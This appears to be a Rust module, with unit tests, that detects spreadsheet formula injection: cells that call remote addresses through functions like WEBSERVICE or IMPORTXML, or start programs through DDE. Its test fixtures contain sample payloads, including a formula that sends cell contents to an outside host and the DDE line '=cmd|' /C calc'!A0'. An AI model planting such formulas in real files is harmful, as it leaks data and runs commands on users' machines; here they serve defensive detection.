//! Finds formulas of spreadsheets that ask an address for something, or start a program, in a table or in data.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::characters::marked;

/// Formulas of one text that are listed.
const LISTED: usize = 20;
/// Bytes before an address in which a function that asks for it stands.
const BEFORE: usize = 60;
/// Bytes of a formula that are shown.
const SHOWN_BYTES: usize = 160;

/// The functions that ask for an address: when the file is opened, or at a click.
const FETCHING: [&str; 7] =
    ["webservice", "importxml", "importhtml", "importdata", "importfeed", "importrange", "hyperlink"];

/// A cell that begins as a formula does, and has a function that asks for an address or the name of a program (DDE).
static ACTIVE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let names = FETCHING.join("|");
    Regex::new(&format!(
        r#"(?i-u)(?:(?:^|[\n,;\t|>"'])\s*[=+\-@]|<f>)(?:[^\n<]{{0,200}}?\b(?:{names}|rtd)\s*\(|[a-z][a-z0-9_.]{{1,40}}\|\s*')"#
    ))
    .ok()
});

/// The formulas of a table that ask for an address, or start a program.
pub fn active(bytes: &[u8]) -> Vec<String> {
    let found = ACTIVE.iter().flat_map(|active| active.find_iter(bytes)).take(LISTED);
    let shown = found.map(|found| {
        let rest = bytes.get(found.start()..).unwrap_or_default().trim_ascii_start();
        let line = rest.split(|byte| *byte == b'\n').find(|line| !line.is_empty()).unwrap_or_default();
        let line = line.get(..SHOWN_BYTES.min(line.len())).unwrap_or_default();
        marked(&String::from_utf8_lossy(line)).into_owned()
    });
    shown.collect()
}

/// The function that stands before an address of a formula, as `WEBSERVICE`; none where no formula does.
pub fn function_before(bytes: &[u8], address: usize) -> Option<String> {
    let before = bytes.get(address.saturating_sub(BEFORE)..address)?;
    let name = |call: &[u8]| {
        let name = str::from_utf8(call.rsplit(|byte| !byte.is_ascii_alphanumeric()).next()?).ok()?;
        FETCHING.iter().any(|known| known.eq_ignore_ascii_case(name)).then(|| name.to_ascii_uppercase())
    };
    before.rsplit(|byte| *byte == b'(').skip(1).find_map(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_fetches_or_starts_a_program_is_found() {
        for table in [
            "name,amount\nquay,=WEBSERVICE(\"https://a.acme.net/?\"&A1)\n",
            "quay\t=IF(A1>0, importxml('https://a.acme.net','//a'), 0)",
            "\"=HYPERLINK(\"\"https://a.acme.net/\"\",\"\"open\"\")\"",
            "=cmd|' /C calc'!A0",
            "name;+MSEXCEL|'x.xls'!A1",
            "<c r=\"A1\"><f>=WEBSERVICE(A2)</f></c>",
        ] {
            assert_eq!(active(table.as_bytes()).len(), 1, "{table}");
        }
        for table in [
            "name,amount\nquay,=SUM(A1:A3)\nwind,-5\n",
            "the function WEBSERVICE( is not for tables",
            "a | b\n---|---\n- item|'quoted'\n",
            "| -5 | +3 |",
        ] {
            assert_eq!(active(table.as_bytes()), Vec::<String>::new(), "{table}");
        }
    }

    #[test]
    fn a_function_before_an_address_is_named() {
        for (text, name) in [
            ("=WEBSERVICE(\"https://a.acme.net/\"&A1)", Some("WEBSERVICE")),
            ("=importxml( 'https://a.acme.net/'", Some("IMPORTXML")),
            ("=HYPERLINK(CONCATENATE(\"https://a.acme.net/\"", Some("HYPERLINK")),
            ("see (https://a.acme.net/)", None),
        ] {
            let at = text.find("https").unwrap();
            assert_eq!(function_before(text.as_bytes(), at).as_deref(), name, "{text}");
        }
    }
}
